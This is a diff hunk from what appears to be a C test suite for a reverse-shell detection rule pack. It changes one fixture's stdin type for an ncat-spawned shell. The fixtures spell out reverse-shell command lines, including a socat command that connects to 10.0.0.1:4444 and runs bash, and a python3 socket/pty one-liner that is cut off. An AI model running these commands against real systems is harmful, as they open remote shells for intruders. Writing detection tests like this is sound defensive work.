@@ -351,7 +351,7 @@ static void test_pack__attacks(void)
 	} hits[] = {
 		/* socat TCP:h:p EXEC:bash, ncat -e: the shell sits on a socketpair */
 		{ "reverse-shell", { "exec", "bash", .in = "unix", .parent = "socat" } },
-		{ "reverse-shell", { "exec", "sh", .in = "unix", .parent = "ncat", C } },
+		{ "reverse-shell", { "exec", "sh", .in = "pipe", .parent = "ncat", C } },
 		{ "reverse-shell", { "exec", "sh", .in = "udp" } },
 		{ "reverse-shell-cmdline", { "exec", "socat", .cmd = "socat TCP:10.0.0.1:4444 EXEC:bash" } },
 		{ "reverse-shell-cmdline", { "exec", "python3", .cmd = "python3 -c import socket,os,pty;"
